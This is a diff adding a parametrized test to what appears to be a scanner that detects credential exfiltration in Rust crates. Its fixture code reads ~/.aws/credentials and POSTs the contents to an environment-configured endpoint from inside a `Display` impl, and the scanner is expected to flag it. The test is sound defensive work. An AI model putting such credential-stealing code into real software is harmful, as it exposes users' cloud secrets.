@@ -5,6 +5,7 @@ from __future__ import annotations
 
 from pathlib import Path
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -147,6 +148,31 @@ def test_credentials_sent_along_calls_need_a_destination_of_the_crate_s_own(
     )
     stealer = scan(tmp_path / "stealer", {"src/lib.rs": stealer_lib, "src/creds.rs": creds})
     assert joined(stealer, "threat-credential-exfiltration")
+
+
+@pytest.mark.parametrize(("trait", "counts"), [("Display", True), ("ProvideCredentials", False)])
+def test_a_credential_providers_impl_is_no_hidden_entry(
+    tmp_path: Path, trait: str, counts: bool
+) -> None:
+    """Code nobody called for (a `Display` impl) has no business reading credentials and
+    reaching the network; a credentials provider the SDK calls is there to do just that."""
+    lib = f"""
+    mod creds;
+    pub struct P;
+    impl {trait} for P {{
+        fn provide(&self) -> String {{ let key = creds::load(); send(&key); key }}
+    }}
+    fn send(body: &str) {{ let _ = ureq::post(&server()).send_string(body); }}
+    fn server() -> String {{ std::env::var("STS_ENDPOINT").unwrap_or_default() }}
+    """
+    creds = """
+    pub fn load() -> String {
+        let home = std::env::var("HOME").unwrap_or_default();
+        std::fs::read_to_string(format!("{home}/.aws/credentials")).unwrap_or_default()
+    }
+    """
+    result = scan(tmp_path, {"src/lib.rs": lib, "src/creds.rs": creds})
+    assert bool(joined(result, "threat-credential-exfiltration")) is counts
 
 
 def test_entry_points_are_named(tmp_path: Path) -> None:
